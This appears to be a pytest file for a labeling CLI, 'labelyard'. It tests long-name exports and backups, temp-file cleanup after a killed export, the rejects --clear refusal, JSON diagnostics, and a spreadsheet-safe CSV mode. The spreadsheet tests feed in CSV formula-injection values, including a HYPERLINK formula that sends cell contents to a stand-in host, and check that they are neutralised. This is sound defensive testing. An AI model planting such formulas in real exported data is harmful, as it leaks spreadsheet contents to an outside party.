"""Output that a tester found refused or unsafe.

- `export -o NAME` and `backup NAME` write a name as long as the filesystem allows: their
  temp files beside it have short names of their own.
- `export --format csv --spreadsheet-safe` writes no cell a spreadsheet would run as a formula.

Real `labelyard` subprocesses on a real database file (see ``conftest.run``).
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
from collections.abc import Iterator
from contextlib import contextmanager

from conftest import SMALL_WORKFLOW

HEADER = "id,label,final_by,rule,final_at,category"
LONG_NAME = "x" * 247 + ".csv"  # 251 bytes: a valid name (NAME_MAX is 255), too long for NAME.tmp-PID


@contextmanager
def umask(mask: int) -> Iterator[None]:
    """Run the subprocesses started meanwhile with ``mask`` (they inherit it)."""
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def accepted_project(run, write_workflow, rows: list[dict] | None = None) -> None:
    """A project whose ``rows`` (default: `T1`, a confident `cat`) are accepted from their predictions."""
    run.ok("init")
    run.ok("apply", write_workflow(SMALL_WORKFLOW))
    rows = rows or [{"id": "T1", "data": {}, "prediction": {"label": "cat", "confidence": 0.95}}]
    (run.folder / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    run.ok("ingest", "t.jsonl")


# -- 5: a target whose name is as long as a name may be -------------------------------------------
def test_export_and_backup_write_a_file_whose_name_is_as_long_as_allowed(run, write_workflow, tmp_path):
    accepted_project(run, write_workflow)
    assert os.pathconf(tmp_path, "PC_NAME_MAX") >= len(LONG_NAME.encode())
    before = set(os.listdir(tmp_path))
    with umask(0o022):
        run.ok("export", "--format", "csv", "-o", LONG_NAME)
    target = tmp_path / LONG_NAME
    assert target.read_text(encoding="utf-8").splitlines()[0] == HEADER
    assert stat.S_IMODE(target.stat().st_mode) == 0o644  # a new file: the umask decides
    target.chmod(0o600)
    run.ok("export", "--format", "csv", "-o", LONG_NAME)  # replaced, keeping its mode
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_text(encoding="utf-8").splitlines()[1].startswith("T1,cat,model")

    backup = "b" * 248 + ".db"
    report = run.json("backup", backup, "--json")
    assert os.path.basename(report["backup"]) == backup
    conn = sqlite3.connect(tmp_path / backup)
    assert conn.execute("SELECT count(*) FROM tasks").fetchone()[0] == 1
    conn.close()
    assert stat.S_IMODE((tmp_path / backup).stat().st_mode) == 0o660
    run.ok("backup", backup, "--force")
    assert set(os.listdir(tmp_path)) - before == {LONG_NAME, backup}  # no temp file left beside them


# -- 7: `--spreadsheet-safe` CSV -----------------------------------------------------------------
TEXT_WORKFLOW = """\
workflow: notes
labels: {type: text}
queues:
  q: {roles: [annotator]}
on_create:
  - {name: confident, when: prediction.confidence >= 0.9, do: accept}
  - {name: "-default", do: {annotate: q}}
"""
NUMBER_WORKFLOW = """\
workflow: scores
labels: {type: number}
queues:
  q: {roles: [annotator]}
on_create:
  - {name: "@model", when: prediction.confidence >= 0.9, do: accept}
  - {name: default, do: {annotate: q}}
"""
HYPERLINK = '=HYPERLINK("http://example.test/?leak="&A1,"open")'


def exported_csv(run, *args: str) -> list[list[str]]:
    """The cells ``export --format csv ARGS -o out.csv`` writes (read as written: a CR in a cell stays one)."""
    run.ok("export", "--format", "csv", *args, "-o", "out.csv")
    with open(run.folder / "out.csv", encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_spreadsheet_safe_csv_puts_a_quote_before_every_cell_a_spreadsheet_would_run(run, write_workflow, tmp_path):
    run.ok("init")
    run.ok("apply", write_workflow(TEXT_WORKFLOW, "notes.workflow.yaml"))
    rows = [{"id": "=1+2", "category": "@SUM(A1)", "prediction": {"label": HYPERLINK, "confidence": 0.95}},
            {"id": "+33 1 23", "category": "-x", "prediction": {"label": "\t=1", "confidence": 0.95}},
            {"id": "-5", "prediction": {"label": "\r=2", "confidence": 0.95}},
            {"id": "plain", "category": "a=b", "prediction": {"label": "fine, with a comma", "confidence": 0.95}}]
    (tmp_path / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    run.ok("ingest", "t.jsonl")

    as_stored = {row[0]: row for row in exported_csv(run)[1:]}
    assert [(as_stored[r["id"]][1], as_stored[r["id"]][5]) for r in rows] == [  # the default is unchanged
        (HYPERLINK, "@SUM(A1)"), ("\t=1", "-x"), ("\r=2", ""), ("fine, with a comma", "a=b")]
    safe = exported_csv(run, "--spreadsheet-safe")
    assert safe[0] == HEADER.split(",")
    assert [(row[0], row[1], row[5]) for row in sorted(safe[1:], key=lambda row: row[0].lstrip("'"))] == [
        ("'+33 1 23", "'\t=1", "'-x"), ("'-5", "'\r=2", ""), ("'=1+2", "'" + HYPERLINK, "'@SUM(A1)"),
        ("plain", "fine, with a comma", "a=b")]
    assert all(row[2:5] == ["model", "confident", "2025-03-01T09:00:00+00:00"] for row in safe[1:])

    to_stdout = run.ok("export", "--format", "csv", "--spreadsheet-safe").stdout  # standard output too
    assert "'" + HYPERLINK.replace('"', '""') in to_stdout and "\n=1+2," not in to_stdout
    refused = run("export", "--spreadsheet-safe")  # JSON Lines: no spreadsheet reads it as formulas
    assert refused.returncode == 2 and "--spreadsheet-safe is for --format csv" in refused.stderr


def test_spreadsheet_safe_csv_quotes_a_negative_number_label_and_a_rule_name(run, write_workflow, tmp_path):
    run.ok("init")
    run.ok("apply", write_workflow(NUMBER_WORKFLOW, "scores.workflow.yaml"))
    rows = [{"id": "n1", "prediction": {"label": -3, "confidence": 0.95}},
            {"id": "n2", "prediction": {"label": 4.5, "confidence": 0.95}}]
    (tmp_path / "t.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    run.ok("ingest", "t.jsonl")
    assert [row[:4] for row in exported_csv(run)[1:]] == [["n1", "-3", "model", "@model"], ["n2", "4.5", "model", "@model"]]
    assert [row[:4] for row in exported_csv(run, "--spreadsheet-safe")[1:]] == [
        ["n1", "'-3", "model", "'@model"], ["n2", "4.5", "model", "'@model"]]


# -- a killed `export -o` ------------------------------------------------------------------------
def test_the_temp_file_a_killed_export_left_is_removed_by_the_next_export_of_that_target(run, write_workflow,
                                                                                       tmp_path):
    import signal
    import subprocess
    import sys

    rows = [{"id": f"T{n}", "data": {"text": "x" * 200}, "prediction": {"label": "cat", "confidence": 0.95}}
            for n in range(30_000)]
    accepted_project(run, write_workflow, rows)
    out = tmp_path / "out"
    out.mkdir()
    before = set(os.listdir(out))
    export = subprocess.Popen([*run.command, "export", "-o", "out/final.jsonl"], cwd=run.folder, env=run.env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        while not (temps := [n for n in os.listdir(out) if n.startswith(".ly-")]):
            assert export.poll() is None, "the export ended before its temp file was seen"
        export.send_signal(signal.SIGKILL)
    finally:
        export.wait()
    [left] = temps
    assert left.endswith(".export-tmp") and (out / left).exists()
    # A temp of the same target an export in progress holds (its lock taken) must stay.
    held = out / (".ly-000000000000" + left[len(".ly-") + 12:])
    holder = subprocess.Popen([sys.executable, "-c", "import fcntl, os, sys\n"
                               f"fd = os.open({str(held)!r}, os.O_RDWR | os.O_CREAT)\n"
                               "fcntl.flock(fd, fcntl.LOCK_EX)\nprint('held', flush=True)\nsys.stdin.read()"],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        run.ok("export", "-o", "out/final.jsonl")
        assert set(os.listdir(out)) - before == {"final.jsonl", held.name}  # before: the killed one stayed too
    finally:
        holder.communicate("")
    assert len((out / "final.jsonl").read_text(encoding="utf-8").splitlines()) == 30_000


def test_rejects_clear_with_a_limit_is_refused_rather_than_forgetting_more_than_listed(run, write_workflow):
    """`rejects --limit 2 --clear` said "Forget the listed rejects" and forgot all 20."""
    accepted_project(run, write_workflow)
    (run.folder / "bad.jsonl").write_text("{bad json\n" * 20, encoding="utf-8")
    run("ingest", "bad.jsonl")
    refused = run("rejects", "--limit", "2", "--clear")
    assert refused.returncode == 2 and "not the --limit listed" in refused.stderr
    assert len(run.json("rejects", "--limit", "100", "--json")) == 20  # nothing forgotten
    assert run.ok("rejects", "--clear").stdout.strip() == "cleared 20 reject(s)"


def test_apply_json_of_an_invalid_workflow_prints_its_mistakes_as_json(run, write_workflow):
    run.ok("init")
    bad = write_workflow("workflow: w\nlabels: {type: choice, choices: [a]}\nqueues: {q: {roles: [annotator]}}\n"
                         "on_create:\n  - do: {annotate: nowhere}\n", name="bad.workflow.yaml")
    proc = run("apply", bad, "--json")
    assert proc.returncode == 1
    document = json.loads(proc.stdout)  # before: nothing on standard output, the mistakes as text only
    assert document["changed"] is False and document["diagnostics"]
    first = document["diagnostics"][0]
    assert (first["line"], "nowhere" in first["message"]) == (5, True), first
    assert "bad.workflow.yaml:5:" in proc.stderr
